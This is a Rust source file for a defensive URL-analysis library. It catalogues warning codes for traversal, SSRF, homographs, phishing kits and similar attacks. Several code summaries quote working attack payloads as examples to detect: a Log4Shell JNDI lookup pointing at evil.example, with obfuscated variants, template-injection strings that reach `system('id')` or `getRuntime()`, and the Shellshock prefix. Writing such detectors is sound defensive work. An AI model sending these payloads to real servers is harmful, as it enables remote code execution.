//! The warning catalogue: the one rule table.
//!
//! For every code, one row of [`catalogue!`](WarningCode): its stable name,
//! default severity, summary, the consequence that ends a component
//! warning's sentence, and the signals a URL must hold for it to fire
//! (from which the fast path, [`crate::triage`], derives its prefilter).
//! The macro writes every fact as an exhaustive match, so a new code does
//! not compile until its row is whole. Severities other than a code's
//! default are [`Case`]s, listed beside it.
//!
//! The checks (`analysis/checks/`, one module per family) decide *where* a
//! warning applies and write the specifics (the depth of a double
//! encoding, the code point an overlong form hides); the front ends only
//! render.

use crate::split::Span;

mod cases;
pub use cases::Case;

/// How bad a finding is, from the point of view of a server that receives
/// the URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[cfg_attr(feature = "serde", serde(rename_all = "lowercase"))]
pub enum Severity {
    /// Worth knowing; not a problem by itself.
    Info,
    /// Untidy or non-conforming; can break naive software.
    Low,
    /// Can make two programs read the URL differently.
    Medium,
    /// A known attack technique.
    High,
}

impl Severity {
    /// Every severity, the mildest first.
    pub const ALL: [Severity; 4] = [
        Severity::Info,
        Severity::Low,
        Severity::Medium,
        Severity::High,
    ];

    /// The lowercase name: `info`, `low`, `medium`, `high`.
    pub fn name(self) -> &'static str {
        match self {
            Severity::Info => "info",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
        }
    }

    /// Parse `high`, `medium`, `low` or `info`.
    pub fn from_name(name: &str) -> Option<Severity> {
        match name {
            "info" => Some(Severity::Info),
            "low" => Some(Severity::Low),
            "medium" => Some(Severity::Medium),
            "high" => Some(Severity::High),
            _ => None,
        }
    }
}

/// Something cheap to see in a URL without analysing it, that a warning
/// code needs in order to fire (its [`WarningCode::signals`]). The fast
/// path ([`crate::triage`]) rules every signal out before it calls a URL
/// plain: the byte signals through its byte classes (`plain.rs`),
/// which are derived from this table, the others by its own checks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Signal {
    /// A `%`: an escape, and whatever decoding it reveals.
    Percent,
    /// A byte RFC 3986 never allows raw ([`crate::percent::is_illegal`])
    /// but a stray one: a control, space, `<`, `>`, `\`, `^`, `|`, DEL or
    /// a non-ASCII byte.
    Illegal,
    /// A stray byte: `"`, `` ` ``, `{` or `}`. RFC 3986 never allows them
    /// raw, but every parser keeps them as data (the WHATWG URL Standard
    /// forbids none of them, in a host either), so they only ever give
    /// `illegal-char`; scraped links hold them often (`https://"www...`).
    Stray,
    /// A control byte (0x00..=0x1F or DEL).
    Control,
    /// A byte from 0x80 on.
    NonAscii,
    /// An `@` in the authority (userinfo, or a host that holds one), or
    /// one that opens the query or the fragment (which then mimics a
    /// userinfo and a host: `evil.example#@good.example`). Elsewhere in
    /// the path, query and fragment (`/@user`, `?mail=a@b.example`) every
    /// parser keeps it as data ([`Signal::Address`] reads an e-mail
    /// address in the query and the fragment).
    At,
    /// A `[` or `]` after the authority. RFC 3986 allows them only around
    /// an IPv6 host, but every parser keeps them as data elsewhere
    /// (`?ids[]=1`, PHP's arrays), so they only ever give `illegal-char`
    /// there. In the host they make the authority not plain
    /// ([`Signal::Authority`]).
    Brackets,
    /// A `+` in the path.
    PlusInPath,
    /// A scheme other than `http`, `https`, `ws`, `wss` or `ftp` followed
    /// by exactly `//` (or a relative reference that starts with `//`).
    Scheme,
    /// An authority that is not plain: a host other than letters, digits,
    /// hyphens, underscores and dots in non-empty labels, an `xn--` label,
    /// a label over 63 bytes or a name over 253, a last label starting
    /// with a digit, a port that is not 0..=65535.
    Authority,
    /// A path or parameter part made of dots (`..;params` included), or
    /// `..` anywhere.
    DotPart,
    /// A `0x2e`, `0x2f` or `0x5c`, any case: a dot or separator in C hex
    /// notation, as a lax reader takes it.
    HexSpelling,
    /// A part that may name a sensitive file
    /// ([`crate::targets::may_matter`]).
    FileName,
    /// A part that is base64 for text ([`crate::targets::base64_text`]).
    Base64,
    /// A value that may carry a URL or a payload: a `:` in a query value,
    /// the fragment or a path part, a path starting with `//`, a part
    /// starting `eyJ` (a JWT), a long run of hex digits.
    Embedded,
    /// A host name that may lead inside (`localhost`, an internal suffix,
    /// wildcard DNS) or show another site's name ahead of its own.
    HostName,
    /// A first path segment that may read as a domain name.
    DomainInPath,
    /// A host that may be a link shortener's
    /// ([`crate::services::service_hint`]).
    Shortener,
    /// A path part, query key or fragment that may name a known site
    /// (`crate::analysis::checks::brand_path::may_name_known_site`).
    BrandInPath,
    /// A host that may be on a listed shared hosting service
    /// ([`crate::services::service_hint`]), with a sign-in word or a
    /// brand's name in the URL.
    SharedHost,
    /// A path whose last segment is a page file under a content
    /// management system's folder
    /// (`crate::analysis::checks::planted::may_be_planted_login`).
    PlantedPage,
    /// A host name that may imitate a famous site: a label one edit or a
    /// look-alike from a famous name, or holding a brand's token
    /// ([`crate::sites::may_imitate`]).
    Imitation,
    /// An `@` in the query or the fragment, or a query key or value, the
    /// fragment or a value of it that may be base64 for an e-mail
    /// address (`crate::analysis::checks::address::may_be_base64_address`).
    Address,
    /// A path part that is a phishing kit's first folder, a query that
    /// holds a kit's word, a query pair that is a kit's step
    /// (`crate::analysis::checks::kit`).
    KitRoute,
    /// A `${` (a lookup of a logging library, Log4j), or another
    /// template expression's opener: `{{`, `#{`, `*{`, `{$`, `[[`, `@(` (`{%`
    /// and `<%` hold a [`Signal::Percent`] or a [`Signal::Illegal`]).
    Lookup,
}

impl Signal {
    /// Whether the byte `b` alone is this signal (always `false` for the
    /// signals that need more than one byte to see).
    pub(crate) const fn matches_byte(self, b: u8) -> bool {
        match self {
            Signal::Percent => b == b'%',
            Signal::Illegal => crate::percent::is_illegal(b) && !is_stray(b),
            Signal::Stray => is_stray(b),
            Signal::Control => b < 0x20 || b == 0x7F,
            Signal::NonAscii => b >= 0x80,
            Signal::Brackets => b == b'[' || b == b']',
            Signal::At
            | Signal::PlusInPath
            | Signal::Scheme
            | Signal::Authority
            | Signal::DotPart
            | Signal::HexSpelling
            | Signal::FileName
            | Signal::Base64
            | Signal::Embedded
            | Signal::HostName
            | Signal::DomainInPath
            | Signal::Shortener
            | Signal::SharedHost
            | Signal::Imitation
            | Signal::PlantedPage
            | Signal::Lookup
            | Signal::Address
            | Signal::KitRoute
            | Signal::BrandInPath => false,
        }
    }
}

impl WarningCode {
    /// Whether the code's warning says that a host imitates a famous site,
    /// which the destination's `imitates` then names: `lookalike-domain`,
    /// `brand-in-host`.
    pub fn names_an_imitation(self) -> bool {
        matches!(
            self,
            WarningCode::LookalikeDomain | WarningCode::BrandInHost
        )
    }

    /// The worst severity the code can be given: its default's or a
    /// [`Case`]'s.
    // Indexing within the loop bounds: `get` is not available in const fns.
    #[allow(clippy::indexing_slicing)]
    pub(crate) const fn worst_severity(self) -> Severity {
        let mut worst = self.severity();
        let mut i = 0;
        while i < Case::ALL.len() {
            let case = Case::ALL[i];
            if case.code() as usize == self as usize && case.severity() as u8 > worst as u8 {
                worst = case.severity();
            }
            i += 1;
        }
        worst
    }
}

impl Signal {
    /// The worst severity of any warning whose code has this signal: a
    /// URL whose signals are all below a threshold has no warning at or
    /// above it, which lets [`crate::triage::triage_at`] pass it.
    // Indexing within the loop bounds: `get` is not available in const fns.
    #[allow(clippy::indexing_slicing)]
    pub(crate) const fn worst_severity(self) -> Severity {
        let mut worst = Severity::Info;
        let mut i = 0;
        while i < WarningCode::ALL.len() {
            let code = WarningCode::ALL[i];
            let signals = code.signals();
            let mut j = 0;
            while j < signals.len() {
                if signals[j] as u8 == self as u8 && code.worst_severity() as u8 > worst as u8 {
                    worst = code.worst_severity();
                }
                j += 1;
            }
            i += 1;
        }
        worst
    }
}

/// Whether `b` is a [stray](Signal::Stray) byte.
pub(crate) const fn is_stray(b: u8) -> bool {
    matches!(b, b'"' | b'`' | b'{' | b'}')
}

/// Whether some code's signal is the byte `b` alone: a URL that holds
/// such a byte is never plain.
// Indexing within the loop bounds: `get` is not available in const fns.
#[allow(clippy::indexing_slicing)]
pub(crate) const fn is_signal_byte(b: u8) -> bool {
    let mut i = 0;
    while i < WarningCode::ALL.len() {
        let signals = WarningCode::ALL[i].signals();
        let mut j = 0;
        while j < signals.len() {
            if signals[j].matches_byte(b) {
                return true;
            }
            j += 1;
        }
        i += 1;
    }
    false
}

macro_rules! catalogue {
    ($( $variant:ident {
        code: $code:literal,
        severity: $severity:ident,
        summary: $summary:literal,
        consequence: $consequence:expr,
        signals: [$($signal:ident),* $(,)?],
    } )*) => {
        /// A warning's stable code.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        #[non_exhaustive]
        pub enum WarningCode { $( #[doc = concat!("`", $code, "`: ", $summary)] $variant, )* }

        impl WarningCode {
            /// Every code, in catalogue order.
            pub const ALL: &'static [WarningCode] = &[ $( WarningCode::$variant, )* ];

            /// The code's position in [`WarningCode::ALL`] (its bit in a
            /// [`CodeSet`]).
            pub(crate) const fn index(self) -> usize {
                self as usize
            }

            /// The stable kebab-case code (`double-encoding`).
            pub fn code(self) -> &'static str {
                match self { $( WarningCode::$variant => $code, )* }
            }

            /// The default severity (a [`Case`] may state another).
            pub const fn severity(self) -> Severity {
                match self { $( WarningCode::$variant => Severity::$severity, )* }
            }

            /// What the code means in general, for help screens and docs.
            pub fn summary(self) -> &'static str {
                match self { $( WarningCode::$variant => $summary, )* }
            }

            /// What the danger leads to, ending a component warning's
            /// sentence ("... in the path segment: *consequence*."); `None`
            /// for codes whose messages say it themselves.
            pub fn consequence(self) -> Option<&'static str> {
                match self { $( WarningCode::$variant => $consequence, )* }
            }

            /// What a URL must hold for the code to fire: the fast path
            /// ([`crate::triage`]) passes a URL with none of them.
            pub(crate) const fn signals(self) -> &'static [Signal] {
                match self { $( WarningCode::$variant => &[$(Signal::$signal),*], )* }
            }
        }
    };
}

catalogue! {
    DoubleEncoding {
        code: "double-encoding",
        severity: Medium,
        summary: "A decoded layer still holds percent-escapes, so a filter that decodes once and a server that decodes again see different text.",
        consequence: Some("a filter that decodes once and a server that decodes again see different text"),
        signals: [Percent],
    }
    PathTraversal {
        code: "path-traversal",
        severity: High,
        summary: "A dot segment reaches the path or a parameter after decoding, so a lax server could be walked out of its document root.",
        consequence: Some("a server that resolves it may serve files outside the intended directory"),
        signals: [Percent, NonAscii, DotPart, HexSpelling, Base64],
    }
    SensitiveFile {
        code: "sensitive-file",
        severity: Medium,
        summary: "The path or a parameter names a system, credential or log file that file-inclusion probes go after.",
        consequence: None,
        signals: [Percent, NonAscii, FileName, Base64],
    }
    JndiLookup {
        code: "jndi-lookup",
        severity: High,
        summary: "A Log4j lookup of a JNDI name (${jndi:ldap://evil.example/a}, its letters also when nested lookups spell them: ${${lower:j}ndi:...}, ${${::-j}...}): a server running Log4j 2 before 2.15 that logs the URL asks the named directory for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell). The directory is a destination, its host judged as any carried URL's (a loopback or metadata address, a look-alike).",
        consequence: None,
        signals: [Lookup, Percent],
    }
    TemplateInjection {
        code: "template-injection",
        severity: Medium,
        summary: "A template expression that computes ({{7*7}}, ${7*7}, #{...}, <%= ... %>, {% import ... %}, Velocity's #set(...) and FreeMarker's <#...>, [#...] and [=...]; a placeholder left unrendered, {{contact.email}} or {% if contact.first_name %}, is none): an application that renders the value as a template (server-side template injection, or AngularJS in the page) evaluates it. High when it reaches the runtime (__class__, getRuntime(), popen, eval, backticks in ERB or a Ruby #{...}), or when a Velocity reference written with no delimiter does ($e.getClass().forName(...), $!{e.getClass()...}), and for a Smarty tag that runs PHP ({php}, {system('id')}, {if exec(...)}).",
        consequence: None,
        signals: [Lookup, Percent, Illegal],
    }
    Shellshock {
        code: "shellshock",
        severity: High,
        summary: "A value that starts with a bash function definition, '() {', in the query or, in an access log, a header: a CGI server hands the raw query (QUERY_STRING) and the headers (HTTP_USER_AGENT, HTTP_REFERER) to the programs it runs as environment variables, and a bash without the Shellshock fixes of September 2014 runs the commands written after the definition as it starts (CVE-2014-6271, Shellshock).",
        consequence: None,
        signals: [Illegal],
    }
    UnsignedJwt {
        code: "unsigned-jwt",
        severity: Medium,
        summary: "A JWT carried in the URL that no signature vouches for: its header names the algorithm 'none' (in any case: 'None', 'NONE' slipped past libraries' blocklists) or its signature is cut off. Anyone can write such a token; a server that accepts it takes its claims as given (libraries have: RFC 8725, section 2.1), so it is a forged token being tried, or an application that hands out tokens no one can trust.",
        consequence: None,
        signals: [Embedded],
    }
    OverlongUtf8 {
        code: "overlong-utf8",
        severity: High,
        summary: "An overlong UTF-8 form hides a character from filters that a lax decoder still reads.",
        consequence: Some("filters miss it but lax decoders read the character anyway"),
        signals: [Percent, NonAscii],
    }
    InvalidUtf8 {
        code: "invalid-utf8",
        severity: Medium,
        summary: "The decoded bytes are not UTF-8, so each decoder substitutes or guesses differently.",
        consequence: Some("each decoder substitutes or guesses differently"),
        signals: [Percent, NonAscii],
    }
    MalformedEscape {
        code: "malformed-escape",
        severity: Medium,
        summary: "A '%' that starts no valid escape is read literally by some decoders and rejected or guessed at by others.",
        consequence: Some("decoders disagree: some keep it, some reject the URL, some guess"),
        signals: [Percent],
    }
    NonstandardEscape {
        code: "nonstandard-escape",
        severity: Medium,
        summary: "A '%uXXXX' escape is not standard, but IIS-style decoders still read it, past filters that do not.",
        consequence: Some("IIS-style decoders read it though standard ones do not"),
        signals: [Percent],
    }
    EncodedSlash {
        code: "encoded-slash",
        severity: Medium,
        summary: "An encoded '/' or '\\' inside a path segment becomes a separator on servers that decode before routing. The segment in which an API names an object, its slashes encoded by design (Firebase Storage's and Google Cloud Storage's `/o/images%2Fphoto.jpg`, npm's `/@scope%2fname`, GitHub's `/repos/o/r/contents/docs%2Fsetup.md`, GitLab's `/api/v4/projects/group%2Fproject`), is read whole by its server and is no warning.",
        consequence: Some("a server that decodes before routing sees an extra path separator"),
        signals: [Percent],
    }
    NullByte {
        code: "null-byte",
        severity: High,
        summary: "A NUL byte truncates the string in C code, so the file opened differs from the one that was checked.",
        consequence: Some("C code stops reading there, so the checked name and the opened name differ"),
        signals: [Percent, Control],
    }
    Crlf {
        code: "crlf",
        severity: High,
        summary: "A CR or LF can end a header line and inject new headers or log lines (response splitting, log forging).",
        consequence: Some("it can end a header or log line and inject a new one"),
        signals: [Percent, Control],
    }
    ControlChar {
        code: "control-char",
        severity: High,
        summary: "A control character can drive a terminal or log viewer (escape sequences) or be stripped by one parser and kept by another.",
        consequence: Some("it can drive a terminal or be dropped by one parser and kept by another"),
        signals: [Percent, Control, NonAscii],
    }
    Backslash {
        code: "backslash",
        severity: Medium,
        summary: "A backslash is a path separator to WHATWG parsers and Windows servers, and data to RFC 3986 parsers.",
        consequence: Some("WHATWG parsers and Windows servers read it as '/'"),
        signals: [Illegal],
    }
    BidiControl {
        code: "bidi-control",
        severity: High,
        summary: "A bidirectional control reorders the characters on screen, so the URL a reader sees is not the one it is.",
        consequence: Some("the text on screen is reordered and does not show the real URL"),
        signals: [Percent, NonAscii],
    }
    InvisibleChar {
        code: "invisible-char",
        severity: Medium,
        summary: "A character that draws nothing makes two different URLs look identical.",
        consequence: Some("two different URLs look identical"),
        signals: [Percent, NonAscii],
    }
    IllegalChar {
        code: "illegal-char",
        severity: Low,
        summary: "A character that must be percent-encoded before the URL is sent; clients encode it differently.",
        consequence: Some("it must be percent-encoded before sending, and clients do that differently"),
        signals: [Illegal, Stray, Brackets],
    }
    LowercaseHex {
        code: "lowercase-hex",
        severity: Info,
        summary: "Escapes should use uppercase hex digits (RFC 3986 §2.1); the meaning is the same.",
        consequence: Some("RFC 3986 asks for uppercase hex; the meaning is the same"),
        signals: [Percent],
    }
    EncodedUnreserved {
        code: "encoded-unreserved",
        severity: Low,
        summary: "An unreserved character is escaped for no reason, a common way to slip a word past a filter.",
        consequence: Some("escaping it changes nothing but can slip a word past a filter"),
        signals: [Percent],
    }
    PlusInPath {
        code: "plus-in-path",
        severity: Info,
        summary: "A '+' in a path is a plus, but form decoders applied to paths turn it into a space.",
        consequence: Some("it is a plus here, but form decoders misapplied to paths read a space"),
        signals: [PlusInPath],
    }
    Userinfo {
        code: "userinfo",
        severity: Medium,
        summary: "The URL carries credentials, or text before an '@' that makes a reader believe in another host.",
        consequence: None,
        signals: [At],
    }
    IpObfuscation {
        code: "ip-obfuscation",
        severity: High,
        summary: "The host is an IPv4 address in decimal, octal, hex or short form, which slips past hostname filters.",
        consequence: None,
        signals: [Authority],
    }
    IdnHomograph {
        code: "idn-homograph",
        severity: High,
        summary: "The host mixes scripts, is written wholly in look-alikes of another name, or has a label UTS #46 rejects, so it can impersonate another domain.",
        consequence: None,
        signals: [Authority, Percent, NonAscii],
    }
    MappedHost {
        code: "mapped-host",
        severity: Medium,
        summary: "The host is written with characters UTS #46 maps to others (circled or full-width letters, ligatures) or reads two ways (ß, ς and the zero-width joiners, which IDNA2003 maps away and IDNA2008 keeps): the text shown and the host a browser opens differ, which string filters and allow-lists miss. High when the name opened is a famous site's.",
        consequence: None,
        signals: [Authority, Percent, NonAscii],
    }
    Idn {
        code: "idn",
        severity: Info,
        summary: "The host is an internationalized domain name; its ASCII form is what DNS sees.",
        consequence: None,
        signals: [Authority, Percent, NonAscii],
    }
    DangerousScheme {
        code: "dangerous-scheme",
        severity: High,
        summary: "The scheme runs code or reads local data when the URL is followed, or starts a program of the visitor's system with what the link writes. A data: URL is high when its media type is a page a browser runs script in (HTML, SVG, XML), low when it is shown as it is (plain text, an image); a system tool's scheme is high when links have run code through it (ms-msdt:), medium when it shows a remote share's files in a local window (search-ms:); an application's link whose address is a URL (microsoft-edge:https://...) is low: the application opens it, outside the program the link is clicked in.",
        consequence: None,
        signals: [Scheme],
    }
    ParserDifferential {
        code: "parser-differential",
        severity: High,
        summary: "An RFC 3986 parser and a WHATWG (browser) parser read this URL differently, which is how SSRF filters get bypassed.",
        consequence: None,
        signals: [Scheme, Authority, Illegal, DotPart, Percent],
    }
    InvalidPort {
        code: "invalid-port",
        severity: Medium,
        summary: "The port is not a number from 0 to 65535, so parsers reject or reinterpret it.",
        consequence: None,
        signals: [Authority],
    }
    InvalidHost {
        code: "invalid-host",
        severity: Medium,
        summary: "The host holds characters no host may hold, so parsers disagree on where it ends; or it is a name DNS cannot carry (a label over 63 bytes, a name over 253: low), whose lookup fails and which IDNA-strict libraries refuse.",
        consequence: None,
        signals: [Authority, At, Percent, Illegal, Control],
    }
    InternalDestination {
        code: "internal-destination",
        severity: High,
        summary: "The URL, or a URL it carries, leads to loopback, a private or link-local network, reserved space or a cloud metadata endpoint: fetched by a server, it reaches inside (SSRF).",
        consequence: None,
        signals: [HostName, Authority, Embedded, Percent, NonAscii, Base64],
    }
    NestingLimit {
        code: "nesting-limit",
        severity: Medium,
        summary: "The URL carries URLs inside URLs deeper than urlscope unfolds them (8 levels), or longer in all than it reads for one input (the input's length, at least 4,096 bytes): where the last one leads is not analysed, and nesting a link this deep is itself a way to hide it.",
        consequence: None,
        signals: [Embedded],
    }
    OpenRedirect {
        code: "open-redirect",
        severity: Medium,
        summary: "A parameter, fragment or path carries a URL that lands on another site (another owner's: one brand's own domains, and those of the brands it owns, are one site), or runs script: a site that redirects to it sends its visitors there. For the page a data: URL holds, a link, form or frame of that page to another site: the page sends what is typed into it, or its visitors, there. A sign-in request's return address (OAuth's redirect_uri beside a client_id, WS-Federation's wreply, SAML's RelayState, a SAML discovery service's return, OpenID 2.0's return_to), which the application registered or alone reads, is only shown (low), as is the document or page a large site's viewer or translator fetches and shows under its own name (Office's viewer, Google Docs' viewer, Google Translate: low).",
        consequence: None,
        signals: [Embedded, Percent, Illegal, NonAscii, Base64],
    }
    DeceptiveHost {
        code: "deceptive-host",
        severity: Medium,
        summary: "The host shows a reader another site's name ahead of the real one, or what follows the host mimics a user name and host, so the reader trusts the wrong site.",
        consequence: None,
        signals: [HostName, At, Embedded, DomainInPath, NonAscii, Percent],
    }
    TwoUrls {
        code: "two-urls",
        severity: High,
        summary: "The input holds two URLs (a scheme no standard parser accepts, or a second scheme inside the first authority), so a lax parser and a strict one, or a filter and a fetcher, pick different hosts.",
        consequence: None,
        signals: [Scheme, Authority, Embedded],
    }
    DefangedInput {
        code: "defanged-input",
        severity: Info,
        summary: "The input was written defanged for a report (hxxps for https, a dot or an at sign in brackets): it is read as the URL it stands for, and each spelling undone is listed.",
        consequence: None,
        signals: [Scheme, Authority, Brackets],
    }
    AssumedScheme {
        code: "assumed-scheme",
        severity: Info,
        summary: "The input has no scheme and starts with a host name (a domain under a public suffix, a www. name, an IPv4 address or localhost), as indicators are listed and tickets written: it is read as a browser's address bar reads it, with http:// in front. In a page's link the same text is a relative path instead, or, where a port follows a name (`localhost:8080/x`), a URL whose scheme is that name.",
        consequence: None,
        signals: [Scheme],
    }
    SurroundingJunk {
        code: "surrounding-junk",
        severity: Info,
        summary: "Spaces or control characters around the URL, or delimiters around one in text (`<>` or `\"\"`, which RFC 3986 suggests, parentheses, quotes or backticks), were ignored.",
        consequence: None,
        signals: [Illegal],
    }
    SharedHosting {
        code: "shared-hosting",
        severity: Medium,
        summary: "The host is on a public hosting, storage, form, tunnel, dynamic DNS or IPFS service where anyone publishes, and the URL shows a sign-in word or a brand's name there, or opens a web page from file storage or IPFS (an HTML file in a bucket, a bare IPFS content address): a page written by whoever holds the account, not by the domain's owner or the brand. A brand's own account there (paypal.github.io) is the brand's site.",
        consequence: None,
        signals: [SharedHost, Percent, NonAscii, Authority],
    }
    RawIpLogin {
        code: "raw-ip-login",
        severity: Medium,
        summary: "The URL leads to a bare public IP address with a sign-in word in its path or query: real sign-in pages are served under a name, phishing kits often on an address.",
        consequence: None,
        signals: [Authority],
    }
    BrandInPath {
        code: "brand-in-path",
        severity: Medium,
        summary: "A known site's domain is written in the path, a query key or the fragment of a site that is not its own, a brand's name in the path of a sign-in page there (/linkedin/SignIn.php, or glued to other words in a folder: /dropboxfiles/login.php) or in a folder of a route that ends in a sign-in (/onedrive/file/login) or in an index page (/OneDrive/index.html), a brand's domain as a folder holding a page (/outlook.com/index.html), a brand's own sign-in route (/ap/signin, ?country.x=US), a page named as a browser saves a brand's page, after its title (/Absa%20Online%20-%20PROFILE.htm), or a brand's folder inside one of the same name (/wetransfer/wetransfer, an archive unpacked where it was uploaded), the way a phishing page on someone else's host shows the brand it imitates.",
        consequence: None,
        signals: [BrandInPath, Percent, NonAscii],
    }
    PlantedLogin {
        code: "planted-login",
        severity: Medium,
        summary: "A sign-in page is kept among the files of a content management system (WordPress's wp-content, wp-includes, wp-admin) or among the images, styles and uploads a site's pages fetch (/images/admin/login.html), where no site keeps its own: the way phishing kits are dropped on sites someone broke into.",
        consequence: None,
        signals: [PlantedPage, Percent, NonAscii],
    }
    PlantedFolder {
        code: "planted-folder",
        severity: Medium,
        summary: "A folder is inside one whose contents are fixed: a folder WordPress never ships inside wp-includes or wp-admin, the folders it alone writes (/wp-includes/js/us/delta.com/index.php), or a static page there (/wp-admin/includes/adobe.html: WordPress's pages are PHP), or any folder inside .well-known/acme-challenge or .well-known/pki-validation, which hold only the files a certificate authority checks: someone put it there, the way phishing kits and web shells are dropped on sites someone broke into.",
        consequence: None,
        signals: [PlantedPage, Percent, NonAscii],
    }
    LookalikeDomain {
        code: "lookalike-domain",
        severity: Medium,
        summary: "The registrable domain is one edit or look-alike letters away from a famous site's (paypa1.com, g00gle.com, rnicrosoft.com, paypal.net): a reader takes it for the famous site. High against a brand's domain (medium for its name under another suffix, low under a country's suffix such as paypal.cn, where brands register their names); low against a top site's, or for an edit of a brand's name under another suffix than the brand's (qmail.org: two steps, where many honest names fall), medium when that URL holds a sign-in word. A brand's name misspelt as a word glued to others in the host (paypa1-help.com, rnicrosoft365-verify.com) is medium, high with a sign-in word.",
        consequence: None,
        signals: [Imitation, NonAscii, Authority],
    }
    BrandInHost {
        code: "brand-in-host",
        severity: Medium,
        summary: "A brand's domain or name is written in the host of a site that is not the brand's, ahead of the real domain (www.paypal.com.secure-login.example.net) or glued to words or a number in it (paypal-login-secure.example, paypal-2019.com; with no hyphen, paypallogin.com, when every word beside the name is one a phishing host is named with: login, secure, account, support, online, ...): high with a sign-in word in the URL. Low in a domain named as the brand's member institutions' are (sparkasse-koelnbonn.de), which are theirs or a phisher's who registered one.",
        consequence: None,
        signals: [Imitation, NonAscii, Authority],
    }
    PrefilledAddress {
        code: "prefilled-address",
        severity: Medium,
        summary: "The query or the fragment hands the page an e-mail address (as written, escaped or in base64), on a site urlscope does not know or anyone's page on a shared service: a phishing page is sent its victim's address so that its sign-in form already holds it. Quiet on known sites and a service's own, on the site's own domain's addresses, on a sender's, recipient's or searched address (?from=, ?to=, ?q=, noreply@), and where the page or its route names a subscription, an invitation or a sign-up (/unsubscribe, ?action=optout, #/signup).",
        consequence: None,
        signals: [Address, Percent],
    }
    PhishingKit {
        code: "phishing-kit",
        severity: Medium,
        summary: "The URL holds the fixed route of a phishing kit sold and shared for years, the same on every site it is dropped on: a PayPal kit's folders (customer_center/.../myaccount), a webmail kit's '13InboxLight' in the query, a banking kit's sign-in step (cmd=login_submit with a long hex id), the copy a kit makes of itself for each visitor in a folder named by an MD5 (32 lowercase hex digits) that runs a script of its own or ends the path under a brand's name. Each is read only whole, never a single word a site may use, and not on a known site.",
        consequence: None,
        signals: [KitRoute],
    }
    Shortener {
        code: "shortener",
        severity: Low,
        summary: "The link is behind a shortener: where it really leads is held by the provider and cannot be read offline.",
        consequence: None,
        signals: [Shortener, Percent, NonAscii, Authority],
    }
}

#[cfg(feature = "serde")]
impl serde::Serialize for WarningCode {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(self.code())
    }
}

/// A set of warning codes: a bit per code's [index](WarningCode::index).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub(crate) struct CodeSet(u64);

// A bit per code: a 65th code needs a wider set.
const _: () = assert!(
    WarningCode::ALL.len() <= CodeSet::CAPACITY,
    "more warning codes than bits in a CodeSet"
);

impl CodeSet {
    /// No code.
    pub(crate) const EMPTY: CodeSet = CodeSet(0);
    /// How many codes a set can hold.
    const CAPACITY: usize = u64::BITS as usize;

    /// Whether `code` is in the set.
    pub(crate) const fn contains(self, code: WarningCode) -> bool {
        self.0 & (1 << code.index()) != 0
    }

    /// Adds `code` to the set.
    pub(crate) fn insert(&mut self, code: WarningCode) {
        self.0 |= 1 << code.index();
    }
}

/// One finding: what, how bad, and exactly which input bytes cause it.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct Warning {
    /// What it is: the catalogue's code.
    pub code: WarningCode,
    /// How bad it is here: the code's default or a [`Case`]'s.
    pub severity: Severity,
    /// The smallest span covering every byte behind the warning.
    pub span: Span,
    /// The exact bytes behind the warning (one span per occurrence).
    pub spans: Vec<Span>,
    /// Index into `Analysis::components`, when the warning is about one.
    pub component: Option<usize>,
    /// One sentence: what a server could be tricked into, with the
    /// specifics of this URL.
    pub message: String,
    /// The decoding layer (1 = one decode) at which the danger appears,
    /// when it comes from decoded bytes.
    #[cfg_attr(feature = "serde", serde(skip_serializing_if = "Option::is_none"))]
    pub layer: Option<usize>,
    /// For a finding about a value the URL carries: the path that leads
    /// to it (`query value 'next' → base64 → host`).
    #[cfg_attr(feature = "serde", serde(skip_serializing_if = "Option::is_none"))]
    pub via: Option<String>,
}

impl Warning {
    /// A warning with the code's default severity.
    pub(crate) fn new(
        code: WarningCode,
        spans: Vec<Span>,
        component: Option<usize>,
        message: String,
    ) -> Warning {
        let span = spans.iter().copied().reduce(Span::join).unwrap_or_default();
        Warning {
            code,
            severity: code.severity(),
            span,
            spans,
            component,
            message,
            layer: None,
            via: None,
        }
    }

    /// A warning of `case`'s code, with the case's severity.
    pub(crate) fn for_case(
        case: Case,
        spans: Vec<Span>,
        component: Option<usize>,
        message: String,
    ) -> Warning {
        Warning::new(case.code(), spans, component, message).with_severity(case.severity())
    }

    /// The same warning with another severity.
    pub(crate) fn with_severity(mut self, severity: Severity) -> Warning {
        self.severity = severity;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_are_unique_and_kebab_case() {
        let mut seen = std::collections::HashSet::new();
        for code in WarningCode::ALL {
            assert!(seen.insert(code.code()), "{}", code.code());
            assert!(code
                .code()
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b == b'-' || b.is_ascii_digit()));
            assert!(code.summary().ends_with('.'));
        }
    }

    #[test]
    fn severities_order_from_info_to_high() {
        assert!(Severity::High > Severity::Medium);
        assert!(Severity::Low > Severity::Info);
        assert_eq!(Severity::from_name("medium"), Some(Severity::Medium));
    }
}
